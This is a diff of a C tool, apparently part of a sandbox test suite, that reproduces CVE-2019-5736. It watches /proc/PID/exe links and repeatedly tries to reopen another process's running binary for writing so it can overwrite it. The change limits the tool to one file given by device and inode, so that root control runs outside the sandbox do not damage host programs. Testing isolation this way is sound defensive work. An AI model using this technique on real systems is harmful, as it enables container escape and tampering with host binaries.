@@ -1,12 +1,15 @@
 /* SPDX-License-Identifier: Apache-2.0 */
 /*
- * overwrite-exe: overwrite whatever program another process runs (CVE-2019-5736)
+ * overwrite-exe: overwrite the program another process runs (CVE-2019-5736)
  *
- *   overwrite-exe MILLISECONDS
+ *   overwrite-exe MILLISECONDS DEVICE:INODE
  *
- * Keeps a descriptor of every /proc/PID/exe but its own that it meets, so that the file stays
+ * Keeps a descriptor of that file, once it meets it as a /proc/PID/exe, so that the file stays
  * reachable after its process, when it is no longer busy, and tries all the time to open it
  * anew for writing.  Prints "seen N overwritten M".
+ *
+ * The file is named, and every other left alone, because this is run as root outside of any
+ * sandbox too, as a control, and would write over the programs of the host.
  */
 #include <fcntl.h>
 #include <dirent.h>
@@ -37,15 +40,15 @@ static uint64_t now_ms(void)
 	return (uint64_t)ts.tv_sec * 1000 + (uint64_t)ts.tv_nsec / 1000000;
 }
 
-static void remember(const char *path, const struct stat *own)
+static void remember(const char *path, const struct stat *wanted)
 {
 	int fd = open(path, O_PATH | O_CLOEXEC);
 	struct stat st;
 
 	if (fd < 0)
 		return;
-	if (n_targets == TARGETS_MAX || fstat(fd, &st) < 0 ||
-	    (st.st_dev == own->st_dev && st.st_ino == own->st_ino)) {
+	if (n_targets == TARGETS_MAX || fstat(fd, &st) < 0 || st.st_dev != wanted->st_dev ||
+	    st.st_ino != wanted->st_ino) {
 		close(fd);
 		return;
 	}
@@ -58,7 +61,7 @@ static void remember(const char *path, const struct stat *own)
 	targets[n_targets++] = (struct target){ st.st_dev, st.st_ino, fd, false };
 }
 
-static void look_around(const struct stat *own)
+static void look_around(const struct stat *wanted)
 {
 	DIR *proc = opendir("/proc");
 	struct dirent *entry;
@@ -67,7 +70,7 @@ static void look_around(const struct stat *own)
 	while (proc && (entry = readdir(proc))) {
 		snprintf(path, sizeof(path), "/proc/%s/exe", entry->d_name);
 		if (entry->d_name[0] >= '0' && entry->d_name[0] <= '9')
-			remember(path, own);
+			remember(path, wanted);
 	}
 	if (proc)
 		closedir(proc);
@@ -89,16 +92,21 @@ static void overwrite(struct target *target)
 
 int main(int argc, char **argv)
 {
-	uint64_t end = now_ms() + (argc > 1 ? strtoull(argv[1], NULL, 10) : 200);
+	unsigned long long ms, device, inode;
+	struct stat wanted = { 0 };
 	size_t overwritten = 0;
-	struct stat own;
+	uint64_t end;
 
-	if (stat("/proc/self/exe", &own) < 0) {
-		perror("/proc/self/exe");
-		return 1;
+	if (argc != 3 || sscanf(argv[1], "%llu", &ms) != 1 ||
+	    sscanf(argv[2], "%llu:%llu", &device, &inode) != 2) {
+		fprintf(stderr, "usage: overwrite-exe MILLISECONDS DEVICE:INODE\n");
+		return 2;
 	}
+	wanted.st_dev = (dev_t)device;
+	wanted.st_ino = (ino_t)inode;
+	end = now_ms() + ms;
 	while (now_ms() < end) {
-		look_around(&own);
+		look_around(&wanted);
 		for (size_t i = 0; i < n_targets; i++)
 			overwrite(&targets[i]);
 	}
